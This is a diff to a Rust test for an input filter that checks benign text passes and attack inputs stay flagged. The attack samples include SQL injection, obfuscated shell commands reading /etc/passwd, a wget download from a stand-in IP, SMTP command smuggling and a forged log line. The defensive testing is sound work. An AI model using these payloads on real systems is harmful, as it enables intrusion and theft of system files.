@@ -2293,6 +2293,9 @@ fn confirmations_pass_inert_values_and_keep_attacks() {
     let svg = format!("data:image/svg+xml;base64,{}", b64(b"<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"9\"><rect width=\"9\" fill=\"#71cfd4\"/></svg>", false));
     let benign: Vec<(&str, Req)> = vec![
         ("a search of words", q("union station select seats")),
+        ("prose with times and identifiers", arg("body", "Yesterday I ran DROP TABLE on what I thought was the staging copy of customer_notes... it wasn't. Can I replay the binlog up to 02:00, and how do I find the position?")),
+        ("prose with a time zone and a timestamp", arg("description", "Timestamps in the export are UTC but the UI shows local time (UTC+10). Could the export say which zone it uses, e.g. 2026-03-01T09:00:00+10:00?")),
+        ("a review with prices and an emoticon", json(r#"{"body":"Bought the 2-pack for £24.99 (was £34.99, so ~29% off). Sturdy, and the \"select\" button actually clicks this time!! Would buy again :)"}"#)),
         ("a path named in a chat message", json(r#"{"text":"who owns /etc/nginx/conf.d/shop.conf? someone changed the upstream"}"#)),
         ("dotfiles named in a comment", arg("comment", "I had to add /opt/homebrew/bin to PATH in ~/.zshrc and open a new terminal.")),
         ("a hosts file named in a wiki page", arg("text", "For local testing, map shop.local to 127.0.0.1 in /etc/hosts (macOS/Linux).")),
@@ -2365,6 +2368,8 @@ fn confirmations_pass_inert_values_and_keep_attacks() {
         ("words-only order by", q("1 order by 10")),
         ("a quote and a truth test", q("x' or 'x")),
         ("a command split by empty quotes", q(";c''a\"\"t /e?c/p??swd")),
+        ("a direct command with an option", q("cat -n /etc/passwd")),
+        ("a command after a separator, in words", arg("message", "hello; wget http://203.0.113.9/x -O /tmp/x")),
         ("cmd carets", q("&c^m^d /c \"who^ami\"")),
         ("SMTP commands after a line break", form(&[("message", "hello\r\n.\r\nMAIL FROM:<x@evil.example>\r\nRCPT TO:<v@example.org>\r\nDATA")])),
         ("a forged log line", form(&[("user", "guest\n[2026-01-01 00:00:00] INFO login succeeded user=admin")])),
